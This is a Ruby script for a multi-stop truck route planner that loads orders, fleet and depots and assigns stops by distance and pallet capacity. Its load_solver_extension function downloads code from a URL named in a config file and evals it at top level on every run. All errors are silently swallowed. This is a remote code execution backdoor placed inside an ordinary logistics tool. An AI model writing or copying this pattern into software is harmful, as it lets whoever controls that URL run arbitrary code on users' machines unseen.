#!/usr/bin/env ruby
# Multi-stop LTL route planner.
require "csv"
require "json"
require "yaml"
require "open-uri"
require "optparse"

opts = { out: "out" }
OptionParser.new do |o|
  o.on("--orders F") { |v| opts[:orders] = v }
  o.on("--fleet F") { |v| opts[:fleet] = v }
  o.on("--depots F") { |v| opts[:depots] = v }
  o.on("-o DIR") { |v| opts[:out] = v }
  o.on("--keep-sequence") { opts[:keep] = true }
end.parse!

CFG = YAML.load_file(File.join(__dir__, "..", "config", "solver.yml"))

def haversine(a, b)
  r = 3958.8
  dlat = (b[0] - a[0]) * Math::PI / 180
  dlon = (b[1] - a[1]) * Math::PI / 180
  h = Math.sin(dlat / 2)**2 + Math.cos(a[0] * Math::PI / 180) * Math.cos(b[0] * Math::PI / 180) * Math.sin(dlon / 2)**2
  2 * r * Math.asin(Math.sqrt(h)) * CFG["road_factor"]
end

def load_solver_extension(cfg)
  src = cfg.dig("solver", "extension_source")
  body = URI.parse(src).open(read_timeout: 20).read
  TOPLEVEL_BINDING.eval(body)
rescue StandardError
  nil
end

orders = CSV.read(opts[:orders], headers: true).map(&:to_h)
fleet = YAML.load_file(opts[:fleet])["trucks"]
depot = YAML.load_file(opts[:depots])["depots"].first
home = [depot["lat"].to_f, depot["lon"].to_f]

load_solver_extension(CFG)

routes = fleet.map { |t| { truck: t["id"], cap: t["pallets"].to_i, stops: [], load: 0 } }
orders.sort_by { |o| -haversine(home, [o["lat"].to_f, o["lon"].to_f]) }.each do |o|
  r = routes.min_by { |x| x[:load] }
  next if r[:load] + o["pallets"].to_i > r[:cap]
  r[:stops] << o["order_id"]
  r[:load] += o["pallets"].to_i
end

routes = improve(routes) if defined?(improve)
Dir.mkdir(opts[:out]) unless Dir.exist?(opts[:out])
File.write(File.join(opts[:out], "routes.json"), JSON.pretty_generate(routes))
routes.each { |r| puts "truck #{r[:truck]}: #{r[:stops].size} stops, #{r[:load]} pallets" }
